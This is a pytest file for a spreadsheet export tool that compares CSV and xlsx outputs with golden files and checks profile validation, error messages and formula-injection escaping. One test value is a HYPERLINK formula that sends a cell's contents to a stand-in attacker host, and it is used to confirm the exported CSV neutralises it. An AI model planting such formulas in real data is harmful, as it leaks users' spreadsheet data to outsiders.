"""`xlkinerja ekspor`: every shipped profile's files on the sample against its golden (values,
not bytes), a profile added as files only, CSV safe against formula injection, bad
profiles named, and the xlsx files opened by LibreOffice and the OOXML checker.

Regenerate the goldens after a deliberate change of an export:
    PYTHONPATH=. python -m tests.test_ekspor
"""

from __future__ import annotations

import csv
import json
import subprocess
import sys
from datetime import datetime
from pathlib import Path
from typing import Any

import pytest
from python_calamine import CalamineWorkbook
from typer.testing import CliRunner

from tests import lo
from tests.coded import error_code, raises
from tests.conftest import SAMPLE
from xlkinerja.cli import app
from xlkinerja.errors import ErrorCode
from xlkinerja.jobs.ekspor import export
from xlkinerja.jobs.inputs import CompiledRekap, latest_in_archive, workbook_files
from xlkinerja.jobs.kompilasi import compile_workbooks
from xlkinerja.kompilasi.ekspor_tabel import FIELDS
from xlkinerja.render.ekspor.profil import ProfilError, load, shipped_folder
from xlkinerja.render.ekspor.tulis import Context, neutralise, write_profile
from xlkinerja.sample.build import MASTER_FILE

GOLDEN = Path(__file__).resolve().parent / "golden"
NOW = datetime(2025, 3, 3, 9, 30)
SHIPPED = ("esakip-hierarki", "esakip-renstra-opd", "pk-csv", "realisasi-csv", "skp-ekinerja")
runner = CliRunner()


def _compile(folder: Path, db: Path | None = None) -> Path:
    rekap = folder / "rekap-kinerja.xlsx"
    compile_workbooks(
        workbook_files([SAMPLE], master=SAMPLE / MASTER_FILE),
        output=rekap,
        record=db is not None,
        db=db,
        workers=1,
        now=NOW,
    )
    return rekap


@pytest.fixture(scope="module")
def rekap(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return _compile(tmp_path_factory.mktemp("rekap"))


@pytest.fixture(scope="module")
def exported(rekap: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    out = tmp_path_factory.mktemp("ekspor")
    # the master given: the Renstra import's targets and identity
    export(CompiledRekap(rekap), profiles=[], output=out, now=NOW, master=SAMPLE / MASTER_FILE)
    return out


def values(path: Path) -> Any:
    """What a file holds, as the user's program reads it: the rows of a CSV (after its
    BOM), every sheet's cells of an xlsx."""
    if path.suffix == ".csv":
        text = path.read_bytes().decode("utf-8")
        assert text.startswith("\ufeff")
        return [list(r) for r in csv.reader(text[1:].splitlines(), delimiter=_separator(text))]
    book = CalamineWorkbook.from_path(str(path))
    return {
        name: [[v.isoformat() if hasattr(v, "isoformat") else v for v in row]
               for row in book.get_sheet_by_name(name).to_python()]
        for name in book.sheet_names
    }  # fmt: skip


def _separator(text: str) -> str:
    header = text.splitlines()[0]
    return ";" if ";" in header else ","


def outputs(folder: Path) -> dict[str, Any]:
    return {p.name: values(p) for p in sorted(folder.iterdir()) if p.is_file()}


def _golden_name(profil: str) -> Path:
    return GOLDEN / f"ekspor-{profil}.json"


def _of_profile(profil: str, found: dict[str, Any]) -> dict[str, Any]:
    names = [b.nama.replace("{tahun}", "2025") for b in load(shipped_folder() / profil).berkas]
    return {name: found[name] for name in names}


@pytest.mark.parametrize("profil", SHIPPED)
def test_every_shipped_profile_writes_its_golden(profil: str, exported: Path):
    expected = json.loads(_golden_name(profil).read_text(encoding="utf-8"))
    # the Petunjuk names when it was made: the test's fixed NOW, like the golden's
    assert _of_profile(profil, outputs(exported)) == expected


def test_the_csv_and_the_hierarchy_say_what_the_user_relies_on(exported: Path):
    found = outputs(exported)
    pk = found["pk-2025.csv"]
    assert pk[0] == [
        "tahun", "level", "kode_unit", "unit", "kode_sasaran", "sasaran", "kode_iku",
        "kode_indikator", "indikator", "satuan", "arah", "tipe_indikator", "target",
    ]  # fmt: skip
    assert pk[1][:4] == ["2025", "iku", "", "Politeknik Negeri Contoh"] and pk[1][-1] == "75"
    assert pk[1][10:12] == ["naik", "positif"]  # the IKU's arah, from the master
    ti1 = next(r for r in pk if r[7] == "IKK-TI-1")
    # the unit's sasaran kegiatan as TI signed it, under the institution's SS-1
    assert ti1[1:7] == [
        "ikk", "TI", "Jurusan Teknik Informatika", "SS-1",
        "Meningkatnya kualitas lulusan program studi", "IKU-1",
    ]  # fmt: skip
    realisasi = found["realisasi-2025.csv"]
    assert realisasi[0] == [
        "tahun", "kode_unit", "kode_indikator", "kode_iku", "triwulan", "periode", "realisasi",
        "catatan",
    ]  # fmt: skip
    assert ["2025", "TI", "IKK-TI-1", "IKU-1", "TW III", "2025-09-30", "66", ""] in realisasi
    # a realisasi nobody filled stays empty, with the reason; never 0
    assert [
        "2025", "TM", "IKK-TM-2", "IKU-2", "TW II", "2025-06-30", "", "realisasi TW II belum diisi"
    ] in realisasi  # fmt: skip
    hierarki = found["esakip-hierarki-2025.xlsx"]
    assert list(hierarki) == ["Petunjuk", "Hierarki"]
    header, *rows = hierarki["Hierarki"]
    assert header[:3] == ["level", "kode", "kode_induk"]
    assert {r[0] for r in rows} == {"sasaran", "iku", "ikk"}
    skp = found["skp-ekinerja-2025.xlsx"]
    assert list(skp) == ["Petunjuk", "TI", "P3M"]  # one sheet per unit
    assert skp["TI"][0][3:10] == [
        "Jenis RHK",
        "Perspektif",
        "RHK Pimpinan yang Diintervensi",
        "Rencana Hasil Kerja",
        "Aspek",
        "Indikator Kinerja Individu",
        "Target",
    ]


def test_the_archive_gives_the_same_export_as_the_rekap(tmp_path: Path):
    db = tmp_path / "arsip.sqlite"
    rekap = _compile(tmp_path, db)
    export(
        CompiledRekap(rekap), profiles=["pk-csv", "realisasi-csv"], output=tmp_path / "a", now=NOW
    )
    export(
        latest_in_archive(db), profiles=["pk-csv", "realisasi-csv"], output=tmp_path / "b", now=NOW
    )
    assert outputs(tmp_path / "a") == outputs(tmp_path / "b")


# -- CSV ------------------------------------------------------------------------------------


@pytest.mark.parametrize("text", ["=1+2", "+62812", "-5 hari", "@SUM(A1)", "\tx", "\rx"])
def test_a_text_that_a_spreadsheet_would_run_is_neutralised(text: str):
    assert neutralise(text) == "'" + text
    assert neutralise("Persentase " + text) == "Persentase " + text


def _pk_row(**values: Any) -> dict[str, Any]:
    return dict.fromkeys(FIELDS["pk"]) | values


def test_a_formula_in_the_data_reaches_the_csv_as_text(tmp_path: Path):
    evil = '=HYPERLINK("http://jahat.contoh/?d="&A1,"klik")'
    tables = {name: [] for name in FIELDS} | {
        "pk": [_pk_row(tahun=2025, unit="@unit", sasaran="-sasaran", indikator=evil, target=-5.0)]
    }
    profil = load(shipped_folder() / "pk-csv")
    write_profile(profil, tables, tmp_path, Context("Instansi", 2025, NOW, "uji"))
    (header, row) = values(tmp_path / "pk-2025.csv")
    cell = dict(zip(header, row, strict=True))
    assert (cell["unit"], cell["sasaran"], cell["indikator"]) == ("'@unit", "'-sasaran", "'" + evil)
    assert cell["target"] == "-5" and cell["tahun"] == "2025"


def test_semicolon_separator_writes_decimal_commas(tmp_path: Path):
    tables = {name: [] for name in FIELDS} | {
        "pk": [_pk_row(tahun=2025, unit="TI", indikator="Rata-rata; IPK", target=3.25)]
    }
    profil = load(shipped_folder() / "pk-csv")
    write_profile(profil, tables, tmp_path, Context("I", 2025, NOW, "uji"), pemisah=";")
    raw = (tmp_path / "pk-2025.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbftahun;level;")
    line = raw.decode("utf-8").splitlines()[1]
    assert line == '2025;;;TI;;;;;"Rata-rata; IPK";;;;3,25'


# -- profiles as files ------------------------------------------------------------------------

EXTRA = """\
deskripsi = "Daftar IKU saja, untuk uji"

[[berkas]]
nama = "iku-{tahun}.xlsx"
jenis = "xlsx"

[[berkas.lembar]]
nama = "Baca"
templat = "baca.txt.j2"

[[berkas.lembar]]
nama = "IKU"
sumber = "pk"
kolom = [
    { judul = "Kode", isi = "kode_indikator" },
    { judul = "Target", isi = "target", desimal = 1 },
]
"""


def test_a_profile_added_as_files_is_listed_and_exports(rekap: Path, tmp_path: Path):
    folder = tmp_path / "profil" / "iku-saja"
    folder.mkdir(parents=True)
    (folder / "profil.toml").write_text(EXTRA, encoding="utf-8")
    (folder / "baca.txt.j2").write_text("IKU {{ instansi }} {{ tahun }}\n", encoding="utf-8")
    listed = runner.invoke(
        app, ["ekspor", "--list", "--profil-dir", str(tmp_path / "profil"), "-f", "json"]
    )
    assert listed.exit_code == 0, listed.output
    names = {p["profil"]: p for p in json.loads(listed.stdout)}
    assert set(names) == {*SHIPPED, "iku-saja"}
    assert names["iku-saja"]["deskripsi"] == "Daftar IKU saja, untuk uji"
    out = tmp_path / "keluar"
    done = runner.invoke(
        app,
        ["ekspor", str(rekap), "--profil", "iku-saja", "--profil-dir", str(folder),
         "--output", str(out)],
    )  # fmt: skip
    assert done.exit_code == 0, done.output
    sheets = values(out / "iku-2025.xlsx")
    assert sheets["Baca"][0] == ["IKU Politeknik Negeri Contoh 2025"]
    assert sheets["IKU"][:2] == [["Kode", "Target"], ["IKU-1", 75.0]]


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ('deskripsi = "x"\n[[berkas]\n', "bukan TOML yang sah"),
        ('deskripsi = "x"\n', "kunci wajib belum ada: berkas"),
        (EXTRA.replace('isi = "target"', 'isi = "targett"'), "berkas[1].lembar[2].kolom[2].isi"),
        (EXTRA.replace('jenis = "xlsx"', 'jenis = "pdf"'), "'pdf' bukan xlsx atau csv"),
        (EXTRA.replace('sumber = "pk"', 'sumber = "keuangan"'), "'keuangan' bukan sumber"),
        (EXTRA.replace('nama = "IKU"', 'nama = "IKU/2"'), "bukan nama lembar Excel"),
        (EXTRA.replace("deskripsi", "keterangan"), "kunci tidak dikenal: keterangan"),
    ],
)
def test_a_bad_profile_is_an_indonesian_error_naming_the_file(
    text: str, said: str, rekap: Path, tmp_path: Path
):
    folder = tmp_path / "rusak"
    folder.mkdir()
    (folder / "profil.toml").write_text(text, encoding="utf-8")
    (folder / "baca.txt.j2").write_text("x\n", encoding="utf-8")
    with raises(ErrorCode.PROFIL_TIDAK_SAH, ProfilError) as caught:
        load(folder)
    assert caught.value.path == folder / "profil.toml"
    assert said in caught.value.message  # where in the profile, and what is wrong there
    # A profile's file is named by its whole path (every profile's is profil.toml).
    assert caught.value.user_message().startswith(f"Berkas '{folder / 'profil.toml'}': ")
    done = runner.invoke(
        app,
        ["ekspor", str(rekap), "--profil", "rusak", "--profil-dir", str(folder),
         "--output", str(tmp_path / "out")],
    )  # fmt: skip
    assert done.exit_code == 2 and error_code(done.output) == ErrorCode.PROFIL_TIDAK_SAH
    assert "rusak/profil.toml" in done.output and "Traceback" not in done.output
    assert not (tmp_path / "out").exists()  # checked before anything is written


def test_an_unknown_profile_names_the_ones_there_are(rekap: Path, tmp_path: Path):
    done = runner.invoke(app, ["ekspor", str(rekap), "-p", "esakip", "-o", str(tmp_path)])
    assert done.exit_code == 2
    assert error_code(done.output) == ErrorCode.PROFIL_TIDAK_ADA
    assert "esakip-hierarki" in done.output  # the ones there are


def test_a_workbook_that_is_not_a_rekap_is_refused(tmp_path: Path):
    done = runner.invoke(app, ["ekspor", str(SAMPLE / MASTER_FILE), "-o", str(tmp_path)])
    assert done.exit_code == 2
    assert error_code(done.output) == ErrorCode.REKAP_LEMBAR_HILANG
    assert f"Berkas '{MASTER_FILE}'" in done.output


def test_an_earlier_csv_is_kept_when_it_differs(rekap: Path, tmp_path: Path):
    (tmp_path / "pk-2025.csv").write_text("milik pengguna\n", encoding="utf-8")
    result = export(CompiledRekap(rekap), profiles=["pk-csv"], output=tmp_path, now=NOW)
    (written,) = result.written
    assert written.backup is not None and written.backup.read_text() == "milik pengguna\n"
    again = export(CompiledRekap(rekap), profiles=["pk-csv"], output=tmp_path, now=NOW)
    assert again.written[0].backup is None  # the same bytes: nothing kept


# -- the xlsx files in real programs ----------------------------------------------------------


@pytest.mark.lambat  # the OOXML checker in subprocesses
def test_the_xlsx_files_pass_the_ooxml_checker(exported: Path):
    for path in sorted(exported.glob("*.xlsx")):
        done = subprocess.run(
            [sys.executable, "-m", "openxml_audit", "-o", "json", "-m", "0", str(path)],
            capture_output=True, text=True, check=False, timeout=300,
        )  # fmt: skip
        (result,) = json.loads(done.stdout)
        assert (result["error_count"], result["warning_count"]) == (0, 0), result["errors"]


@pytest.mark.libreoffice
def test_libreoffice_opens_the_xlsx_files_with_their_values(exported: Path, tmp_path: Path):
    books = sorted(exported.glob("*.xlsx"))
    again = lo.convert(books, "xlsx", tmp_path / "lo", tmp_path / "profile")
    for original, saved in zip(books, again, strict=True):
        assert values(saved) == values(original), original.name


def _regenerate() -> None:
    import tempfile

    with tempfile.TemporaryDirectory() as tmp:
        folder = Path(tmp)
        out = folder / "ekspor"
        export(
            CompiledRekap(_compile(folder)),
            profiles=[],
            output=out,
            now=NOW,
            master=SAMPLE / MASTER_FILE,
        )
        found = outputs(out)
        for profil in SHIPPED:
            text = json.dumps(_of_profile(profil, found), indent=1, ensure_ascii=False)
            _golden_name(profil).write_text(text + "\n", encoding="utf-8")


if __name__ == "__main__":
    _regenerate()


@pytest.mark.parametrize(
    ("args", "code"),
    [
        (["--dari-arsip", "REKAP"], ErrorCode.OPSI_BERTENTANGAN),
        (["REKAP", "--tahun", "2025"], ErrorCode.OPSI_BERTENTANGAN),
        ([], ErrorCode.OPSI_BELUM_DIBERIKAN),
        (["REKAP", "--pemisah", "|"], ErrorCode.OPSI_TIDAK_SAH),
    ],
)
def test_the_command_says_what_is_wrong_with_its_options(
    args: list[str], code: ErrorCode, rekap: Path, tmp_path: Path
):
    args = [str(rekap) if a == "REKAP" else a for a in args]
    done = runner.invoke(app, ["ekspor", *args, "--output", str(tmp_path / "out")])
    assert done.exit_code == 2
    assert error_code(done.output) == code
    assert not (tmp_path / "out").exists()


def test_a_users_profile_from_the_environment_replaces_the_shipped_one(
    rekap: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
):
    folder = tmp_path / "milik-saya" / "pk-csv"
    folder.mkdir(parents=True)
    own = (shipped_folder() / "pk-csv" / "profil.toml").read_text(encoding="utf-8")
    own = own.replace('{ judul = "target", isi = "target" },', "")
    (folder / "profil.toml").write_text(own, encoding="utf-8")
    monkeypatch.setenv("XLKINERJA_PROFIL_DIR", str(tmp_path / "milik-saya"))
    result = export(CompiledRekap(rekap), profiles=["pk-csv"], output=tmp_path / "out", now=NOW)
    assert result.profiles[0].folder == folder and not result.profiles[0].bawaan
    header = values(tmp_path / "out" / "pk-2025.csv")[0]
    assert header[-1] == "tipe_indikator" and "target" not in header
    monkeypatch.setenv("XLKINERJA_PROFIL_DIR", str(tmp_path / "tidak-ada"))
    with raises(ErrorCode.PROFIL_FOLDER_TIDAK_ADA, ProfilError):
        export(CompiledRekap(rekap), profiles=["pk-csv"], output=tmp_path / "out2", now=NOW)


def test_a_separator_that_is_the_decimal_mark_stops_before_any_file(rekap: Path, tmp_path: Path):
    folder = tmp_path / "profil" / "koma"
    folder.mkdir(parents=True)
    own = (shipped_folder() / "realisasi-csv" / "profil.toml").read_text(encoding="utf-8")
    (folder / "profil.toml").write_text(own.replace('pemisah = ","', 'desimal = ","'))
    done = runner.invoke(
        app,
        ["ekspor", str(rekap), "-p", "pk-csv", "-p", "koma", "--profil-dir", str(folder),
         "--pemisah", ",", "-o", str(tmp_path / "out")],
    )  # fmt: skip
    assert done.exit_code == 2
    assert error_code(done.output) == ErrorCode.OPSI_TIDAK_SAH and "(',')" in done.output
    assert not (tmp_path / "out").exists()  # not even pk-csv's file
